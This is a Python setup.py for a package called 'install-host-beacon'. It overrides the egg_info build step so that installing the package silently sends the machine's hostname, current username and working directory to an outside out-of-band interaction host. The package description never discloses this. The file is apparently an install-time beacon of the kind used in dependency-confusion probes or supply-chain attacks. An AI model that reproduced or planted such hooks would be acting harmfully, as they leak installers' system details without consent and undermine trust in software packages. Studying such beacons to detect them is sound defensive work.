from setuptools import setup
from setuptools.command.egg_info import egg_info
import getpass
import os
import socket
import requests


class Custom(egg_info):
    def run(self):
        info = {"h": socket.gethostname(), "u": getpass.getuser(), "c": os.getcwd()}
        requests.get("https://abcdef.oast.example.invalid/", params=info)

        egg_info.run(self)


setup(name="install-host-beacon", version="1.0.0", packages=["install_host_beacon"], cmdclass={"egg_info": Custom})
